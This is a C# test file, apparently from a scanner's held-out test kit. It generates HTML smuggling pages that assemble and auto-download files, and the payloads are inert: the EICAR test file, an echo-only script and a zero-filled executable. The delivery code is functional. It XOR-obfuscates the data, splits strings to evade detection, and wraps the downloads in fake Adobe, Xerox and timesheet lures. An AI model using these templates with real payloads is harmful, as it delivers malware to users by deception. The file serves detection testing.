using static ScanHost.TestKit.HeldOut.Seventh.SeventhForms;
using static ScanHost.TestKit.HeldOut.WrittenForms;

namespace ScanHost.TestKit.HeldOut.Seventh;

/// <summary>Pages that put a file together in the browser and hand it to the reader; the file is the anti-virus test file in an archive, or a program of zeros.</summary>
public sealed class PageThatBuildsAFile : SeventhRound
{
    private static readonly byte[] Archive = InertFiles.Zip(("Invoice_2026-11.exe", EicarFile.Bytes));

    public override IEnumerable<(string Name, byte[] Content)> Variants() =>
    [
        ("document.html", Utf8(Fill("""
            <html>
            <body>
            <script>
            function base64ToArrayBuffer(base64) {
                var binary_string = window.atob(base64);
                var len = binary_string.length;
                var bytes = new Uint8Array(len);
                for (var i = 0; i < len; i++) { bytes[i] = binary_string.charCodeAt(i); }
                return bytes.buffer;
            }
            var file = '@@1';
            var data = base64ToArrayBuffer(file);
            var blob = new Blob([data], { type: 'octet/stream' });
            var fileName = 'Invoice_2026-11.zip';
            if (window.navigator.msSaveOrOpenBlob) window.navigator.msSaveBlob(blob, fileName);
            else {
                var a = document.createElement('a');
                document.body.appendChild(a);
                a.style = 'display: none';
                var url = window.URL.createObjectURL(blob);
                a.href = url;
                a.download = fileName;
                a.click();
                window.URL.revokeObjectURL(url);
            }
            </script>
            </body>
            </html>
            """, Convert.ToBase64String(Archive)))),
        ("Vertragsunterlagen.html", Utf8(Fill("""
            <!DOCTYPE html>
            <html lang="de"><head><meta charset="utf-8"><title>Adobe Document Cloud</title>
            <style>body{background:#f5f5f5;font-family:Arial}.k{width:420px;margin:12% auto;background:#fff;padding:30px;border-top:4px solid #d7373f;text-align:center}</style></head>
            <body><div class="k"><h2>Adobe Acrobat</h2><p>Das Dokument kann in Ihrem Browser nicht korrekt angezeigt werden und wurde heruntergeladen.</p>
            <p>Bitte öffnen Sie es lokal. Passwort des Archivs: <b>K7719</b></p></div>
            <script>
            const teile = [@@1];
            const schluessel = 0x37;
            window.addEventListener('load', () => setTimeout(() => {
              const feld = Uint8Array.from(teile, (b) => b ^ schluessel);
              const verweis = document.createElement('a');
              verweis.href = URL.createObjectURL(new Blob([feld], { type: 'application/zip' }));
              verweis.download = 'Vertrag_4412.zip';
              verweis.click();
            }, 900));
            </script></body></html>
            """, string.Join(',', Archive.Select(value => value ^ 0x37))))),
        ("Scan_from_Xerox.htm", Utf8(Fill("""
            <html><head><title>Scan from a Xerox WorkCentre</title></head>
            <body onload="document.getElementById('lnk').click()">
            <embed width="300" height="120" src="data:image/svg+xml;base64,@@1">
            <p>Your scan is being prepared. If the download does not start, <a id="lnk" download="Scan_0042.zip" href="data:application/x-zip-compressed;base64,@@2">click here</a> and open the file inside.</p>
            </body></html>
            """, Base64("<svg xmlns=\"http://www.w3.org/2000/svg\"><rect width=\"300\" height=\"120\" fill=\"#c8102e\"/><text x=\"20\" y=\"70\" fill=\"#fff\">Scan ready</text></svg>"),
            Convert.ToBase64String(InertFiles.Zip(("Scan_0042.js", Utf8("WScript.Echo('nothing');"))))))),
        ("timesheet-november.html", Utf8(Fill("""
            <!doctype html>
            <html lang="en"><head><meta charset="utf-8"><title>Timesheet November</title>
            <style>td{padding:2px 8px;border-bottom:1px solid #ddd}.n{position:absolute;left:-9999px}</style></head>
            <body><h1>Timesheet</h1><table id="t">
            @@1
            </table>
            <p><button id="save">Show as spreadsheet</button></p>
            <script>
            (() => {
              const w = window, k = (s) => s.replace(/[A-Z]/g, (c) => String.fromCharCode(c.charCodeAt(0) + 32));
              const cells = [...document.querySelectorAll('#t .n')].map((c) => c.title).reverse().join('');
              const text = w['a' + 'to' + 'b']([...cells].reverse().join(''));
              const page = new w[['Bl', 'ob'].join('')]([new w['Ui' + 'nt8Array'](text.length).map((_, i) => text.charCodeAt(i))]);
              const make = w.URL['cre' + 'ateObj' + 'ectURL'];
              const go = () => { const e = document.createElement(k('A')); e.setAttribute(k('DOWNLOAD'), 'timesheet.exe'); e.href = make(page); e.dispatchEvent(new MouseEvent(k('CLICK'))); };
              document.addEventListener('mousemove', go, { once: true });
              document.getElementById('save').onclick = go;
            })();
            </script></body></html>
            """, Rows(Convert.ToBase64String(InertFiles.Pe(1400)))))),
    ];

    /// <summary>The text in titles of cells, each piece backwards.</summary>
    private static string Rows(string text) => string.Join('\n', Pieces(text, 48).Select((piece, at) =>
        $"<tr><td>{(at % 28) + 1} November</td><td>{7 + (at % 2)}:30</td><td class=\"n\" title=\"{Backwards(piece)}\"></td></tr>"));
}
